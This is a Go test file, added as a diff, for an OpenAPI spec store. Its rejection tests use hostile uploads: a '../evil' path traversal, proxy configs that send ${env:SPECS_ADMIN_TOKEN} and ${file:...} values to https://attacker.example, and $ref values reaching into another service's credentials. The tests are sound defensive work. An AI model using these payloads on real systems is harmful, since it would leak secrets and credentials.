@@ -0,0 +1,184 @@
+package storage
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestFileSpecStore_Put(t *testing.T) {
+	tempDir := t.TempDir()
+
+	store, err := NewFileSpecStore(tempDir)
+	if err != nil {
+		t.Fatalf("NewFileSpecStore() failed: %v", err)
+	}
+
+	created, err := store.Put("pets", []byte(`{"openapi":"3.0.0","info":{"title":"v1"}}`), false)
+	if err != nil {
+		t.Fatalf("Put() failed: %v", err)
+	}
+	if !created {
+		t.Error("expected first Put to create the service")
+	}
+
+	if _, err := os.Stat(filepath.Join(tempDir, "pets.json")); err != nil {
+		t.Errorf("expected pets.json to be written: %v", err)
+	}
+
+	spec, err := store.Get("pets")
+	if err != nil || !strings.Contains(string(spec), `"v1"`) {
+		t.Errorf("expected stored spec to be served, got %s (%v)", spec, err)
+	}
+
+	// Creating again without overwrite conflicts
+	_, err = store.Put("pets", []byte(`{"openapi":"3.0.0"}`), false)
+	if !errors.Is(err, ErrServiceExists) {
+		t.Errorf("expected ErrServiceExists, got %v", err)
+	}
+
+	// Replacing with YAML swaps the file
+	created, err = store.Put("pets", []byte("openapi: 3.0.0\ninfo:\n  title: v2\n"), true)
+	if err != nil {
+		t.Fatalf("Put() overwrite failed: %v", err)
+	}
+	if created {
+		t.Error("expected overwrite to report an existing service")
+	}
+
+	if _, err := os.Stat(filepath.Join(tempDir, "pets.json")); !os.IsNotExist(err) {
+		t.Error("expected pets.json to be removed after switching to YAML")
+	}
+
+	spec, _ = store.Get("pets")
+	if !strings.Contains(string(spec), `"v2"`) {
+		t.Errorf("expected replaced spec to be served, got %s", spec)
+	}
+
+	// A fresh store sees the persisted file
+	reopened, err := NewFileSpecStore(tempDir)
+	if err != nil {
+		t.Fatalf("NewFileSpecStore() failed: %v", err)
+	}
+	if names, _ := reopened.List(); strings.Join(names, ",") != "pets" {
+		t.Errorf("expected persisted spec 'pets', got %v", names)
+	}
+}
+
+func TestFileSpecStore_Put_Invalid(t *testing.T) {
+	tempDir := t.TempDir()
+
+	store, err := NewFileSpecStore(tempDir)
+	if err != nil {
+		t.Fatalf("NewFileSpecStore() failed: %v", err)
+	}
+
+	tests := []struct {
+		name    string
+		service string
+		data    string
+	}{
+		{"path traversal", "../evil", `{"openapi":"3.0.0"}`},
+		{"empty name", "", `{"openapi":"3.0.0"}`},
+		{"not a spec", "pets", `{"hello":"world"}`},
+		{"broken yaml", "pets", "openapi: [unclosed"},
+		{"bad proxy config", "pets", `{"openapi":"3.0.0","x-proxy-config":{"baseURL":42}}`},
+		{"env placeholder", "pets", `{"openapi":"3.0.0","x-proxy-config":{"baseURL":"https://attacker.example","authHeaders":{"X-Leak":"${env:SPECS_ADMIN_TOKEN}"}}}`},
+		{"file placeholder in yaml", "pets", "openapi: 3.0.0\nx-proxy-config:\n  baseURL: https://attacker.example\n  oauth2:\n    tokenURL: https://attacker.example/token\n    clientId: x\n    clientSecret: ${file:/etc/hostname}\n"},
+		{"placeholder in environment", "pets", `{"openapi":"3.0.0","x-proxy-config":{"environments":{"prod":{"baseURL":"https://attacker.example","authHeaders":{"X-Leak":"${env:HOME}"}}}}}`},
+		{"placeholder in tls path", "pets", `{"openapi":"3.0.0","x-proxy-config":{"baseURL":"https://attacker.example","tls":{"caFile":"${env:HOME}/ca.pem"}}}`},
+		{"ref into another config", "pets", `{"openapi":"3.0.0","x-proxy-config":{"baseURL":"https://attacker.example","authHeaders":{"$ref":"billing.json#/x-proxy-config/authHeaders"}}}`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := store.Put(tt.service, []byte(tt.data), true)
+			if !errors.Is(err, ErrInvalidSpec) {
+				t.Errorf("expected ErrInvalidSpec, got %v", err)
+			}
+		})
+	}
+
+	entries, _ := os.ReadDir(tempDir)
+	if len(entries) != 0 {
+		t.Errorf("expected no files written for invalid uploads, got %d", len(entries))
+	}
+}
+
+func TestFileSpecStore_Put_RefsToOtherServices(t *testing.T) {
+	tempDir := t.TempDir()
+	writeFiles(t, tempDir, map[string]string{
+		"payments.json":          `{"openapi":"3.0.0","x-proxy-config":{"baseURL":"https://pay.example.com","authHeaders":{"Authorization":"Bearer secret-token"}},"components":{"schemas":{"Money":{"type":"number"}}}}`,
+		"billing/openapi.json":   `{"openapi":"3.0.0"}`,
+		"billing/schemas.json":   `{"Invoice":{"type":"object"}}`,
+		"shared/components.json": `{"Error":{"type":"object"}}`,
+	})
+
+	store, err := NewFileSpecStore(tempDir)
+	if err != nil {
+		t.Fatalf("NewFileSpecStore() failed: %v", err)
+	}
+
+	rejected := []struct {
+		name    string
+		service string
+		data    string
+	}{
+		{"ref into another service's config", "evil", `{"openapi":"3.0.0","components":{"schemas":{"leak":{"$ref":"payments.json#/x-proxy-config"}}}}`},
+		{"ref into another service's spec", "evil", `{"openapi":"3.0.0","components":{"schemas":{"money":{"$ref":"payments.json#/components/schemas/Money"}}}}`},
+		{"ref to shared files", "evil", `{"openapi":"3.0.0","components":{"schemas":{"error":{"$ref":"shared/components.json#/Error"}}}}`},
+		{"ref out of its service directory", "billing", `{"openapi":"3.0.0","components":{"schemas":{"leak":{"$ref":"../payments.json#/x-proxy-config"}}}}`},
+		{"local ref into its own config", "evil", `{"openapi":"3.0.0","x-proxy-config":{"baseURL":"https://evil.example.com"},"components":{"schemas":{"leak":{"$ref":"#/x-proxy-config"}}}}`},
+	}
+	for _, tt := range rejected {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := store.Put(tt.service, []byte(tt.data), true); !errors.Is(err, ErrInvalidSpec) {
+				t.Errorf("expected ErrInvalidSpec, got %v", err)
+			}
+		})
+	}
+
+	if _, err := store.Get("evil"); err == nil {
+		t.Error("expected no evil service after rejected uploads")
+	}
+	if _, err := os.Stat(filepath.Join(tempDir, "evil.json")); !os.IsNotExist(err) {
+		t.Error("expected evil.json not to be written")
+	}
+
+	// A directory service may still reference its own fragment files
+	if _, err := store.Put("billing", []byte(`{"openapi":"3.0.0","components":{"schemas":{"invoice":{"$ref":"schemas.json#/Invoice"}}}}`), true); err != nil {
+		t.Fatalf("Put() with a ref inside its own directory failed: %v", err)
+	}
+	spec, _ := store.Get("billing")
+	if !strings.Contains(string(spec), `"invoice":{"type":"object"}`) {
+		t.Errorf("expected the fragment to be inlined, got %s", spec)
+	}
+}
+
+func TestFileSpecStore_Delete(t *testing.T) {
+	tempDir := t.TempDir()
+	writeSpecFile(t, tempDir, "pets.json", map[string]interface{}{"openapi": "3.0.0"})
+
+	store, err := NewFileSpecStore(tempDir)
+	if err != nil {
+		t.Fatalf("NewFileSpecStore() failed: %v", err)
+	}
+
+	if err := store.Delete("pets"); err != nil {
+		t.Fatalf("Delete() failed: %v", err)
+	}
+
+	if _, err := store.Get("pets"); err == nil {
+		t.Error("expected pets to be gone after Delete")
+	}
+
+	if _, err := os.Stat(filepath.Join(tempDir, "pets.json")); !os.IsNotExist(err) {
+		t.Error("expected pets.json to be removed")
+	}
+
+	if err := store.Delete("pets"); !errors.Is(err, ErrServiceNotFound) {
+		t.Errorf("expected ErrServiceNotFound, got %v", err)
+	}
+}